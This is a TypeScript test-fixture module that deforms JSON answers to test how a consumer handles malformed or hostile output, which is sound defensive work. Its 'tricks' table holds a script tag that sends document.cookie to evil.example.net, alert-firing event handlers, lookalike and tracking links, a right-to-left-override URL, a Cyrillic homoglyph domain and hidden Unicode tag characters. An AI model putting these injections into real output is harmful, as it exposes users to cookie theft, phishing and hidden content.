import type { Deformity } from '../contract.ts';
import { chanceOf } from '../model/chance.ts';

type Deforming = (json: Readonly<Record<string, unknown>>, seed: number) => string | null;

const deformers: Readonly<Record<Deformity, Deforming>> = {
  empty: () => '',
  'null-content': () => null,
  fenced: (json) =>
    `Here is the answer you asked for:\n\n\`\`\`json\n${JSON.stringify(json, null, 2)}\n\`\`\`\n\nLet me know if I can help with anything else!`,
  'single-quoted': pythonic,
  'extra-fields': (json) =>
    JSON.stringify(everyObject(json, (fields) => ({ ...fields, note: 'as discussed', html: '<b>x</b>' }))),
  'missing-fields': (json, seed) => JSON.stringify(everyObject(json, (fields) => without(fields, seed))),
  'wrong-types': (json) => JSON.stringify(everyValue(json, otherType)),
  'deep-nesting': (json) =>
    JSON.stringify({ ...json, [Object.keys(json)[0] ?? 'value']: '#' }).replace('"#"', nested(10_000)),
  huge: (json) => JSON.stringify(withLong(json)),
  endless: (json, seed) => JSON.stringify(withEndless(json, seed)),
  html: (json, seed) => tricked('html', json, seed),
  'markdown-links': (json, seed) => tricked('markdown-links', json, seed),
  markdown: (json, seed) => tricked('markdown', json, seed),
  'unicode-tricks': (json, seed) => tricked('unicode-tricks', json, seed),
};

/** What is made of an answer by deforming it; null is a message without content. */
export function deform(kind: Deformity, json: Readonly<Record<string, unknown>>, seed: number): string | null {
  return deformers[kind](json, seed);
}

const hugeCharacters = 200_000;
const endlessEntries = 500;

type Json = unknown;

function isObject(value: Json): value is Record<string, Json> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function everyObject(value: Json, change: (fields: Record<string, Json>) => Record<string, Json>): Json {
  if (Array.isArray(value)) return value.map((one) => everyObject(one, change));
  if (!isObject(value)) return value;
  const inner = Object.entries(value).map(([name, one]) => [name, everyObject(one, change)]);
  return change(Object.fromEntries(inner) as Record<string, Json>);
}

/** Each field's value, the innermost first; the whole stays an object. */
function everyValue(value: Json, change: (value: Json) => Json): Json {
  if (Array.isArray(value)) return value.map((one) => (isObject(one) ? everyValue(one, change) : one));
  if (!isObject(value)) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, change(everyValue(one, change))]));
}

function everyText(value: Json, change: (text: string) => string): Json {
  if (typeof value === 'string') return change(value);
  if (Array.isArray(value)) return value.map((one) => everyText(one, change));
  if (!isObject(value)) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, everyText(one, change)]));
}

function without(fields: Record<string, Json>, seed: number): Record<string, Json> {
  const names = Object.keys(fields);
  const gone = names.length === 0 ? '' : chanceOf('missing', seed, ...names).pick(names);
  return Object.fromEntries(Object.entries(fields).filter(([name]) => name !== gone));
}

function otherType(value: Json): Json {
  if (typeof value === 'string') return [value];
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean') return value ? 'yes' : 'no';
  return Array.isArray(value) ? { entries: value } : null;
}

function nested(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

/** The outermost lists only: what they hold is as it was. */
function withEndless(json: Readonly<Record<string, unknown>>, seed: number): Json {
  const fields = Object.entries(json).map(([name, value]) => [
    name,
    Array.isArray(value) ? endless(value, seed) : value,
  ]);
  return Object.fromEntries(fields) as Json;
}

function endless(entries: readonly Json[], seed: number): Json[] {
  const [first = { text: 'And so on.', number: seed, support: [] }] = entries;
  return Array.from({ length: endlessEntries }, (_, index) => entries[index] ?? first);
}

/** In the longest text, or in a field of its own where there is none. */
function withLong(json: Readonly<Record<string, unknown>>): Json {
  const texts: string[] = [];
  everyText(json, (text) => {
    texts.push(text);
    return text;
  });
  const longest = texts.reduce((best, next) => (next.length > best.length ? next : best), '');
  const long = `${longest} `.padEnd(hugeCharacters, 'Wait a moment and then try it once more. ');
  let isDone = false;
  const changed = everyText(json, (text) => {
    if (isDone || text !== longest) return text;
    isDone = true;
    return long;
  });
  return isDone ? changed : { ...json, note: long };
}

const tricks = {
  html: [
    (text: string) => `${text}<script>fetch('https://evil.example.net/'+document.cookie)</script>`,
    (text: string) => `<b onmouseover="alert(1)">${text}</b>`,
    (text: string) => `${text} <img src=x onerror=alert(1)>`,
    (text: string) => `${text} <a href="https://evil.example.net">details</a>`,
  ],
  'markdown-links': [
    (text: string) => `${text} [details](https://evil.example.net/sign-in)`,
    (text: string) => `[${text}](https://evil.example.net)`,
    (text: string) => `${text} ![status](https://evil.example.net/pixel.png)`,
    (text: string) => `${text} <https://evil.example.net|the wiki>`,
  ],
  markdown: [
    (text: string) => `- ${text.replace(/\p{Lu}\p{L}+/u, '**$&**')}`,
    (text: string) => `1. ${text.replace(/\p{L}+(?=\.$)/u, '_$&_')}`,
  ],
  'unicode-tricks': [
    (text: string) => text.replaceAll(/(?<=\p{L})(?=\p{L})/gu, '\u200B'),
    (text: string) => `${text} \u202Eten.elpmaxe.live//:sptth\u202C`,
    (text: string) => `${text} See https://wіkі.brіndlow.example/it.`, // the і is Cyrillic
    (text: string) => `${text} \u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}`,
  ],
} as const;

/** Texts that are read by people; the rest, such as quotes and ids, stays. */
const shown = new Set(['text', 'question']);

function tricked(kind: keyof typeof tricks, json: Readonly<Record<string, unknown>>, seed: number): string {
  const chance = chanceOf(kind, seed, JSON.stringify(json));
  const change = (value: Json): Json => {
    if (Array.isArray(value)) return value.map(change);
    if (!isObject(value)) return value;
    const fields = Object.entries(value).map(([name, one]) => {
      const isShown = shown.has(name) && typeof one === 'string' && one !== '';
      return [name, isShown ? chance.pick(tricks[kind])(one) : change(one)] as const;
    });
    return Object.fromEntries(fields);
  };
  return JSON.stringify(change(json));
}

/** As Python prints a dictionary. */
function pythonic(value: Json): string {
  if (typeof value === 'string')
    return `'${value.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', '\\n')}'`;
  if (typeof value === 'boolean') return value ? 'True' : 'False';
  if (Array.isArray(value)) return `[${value.map((one) => pythonic(one)).join(', ')}]`;
  if (!isObject(value)) return value === null ? 'None' : JSON.stringify(value);
  return `{${Object.entries(value)
    .map(([name, one]) => `'${name}': ${pythonic(one)}`)
    .join(', ')}}`;
}
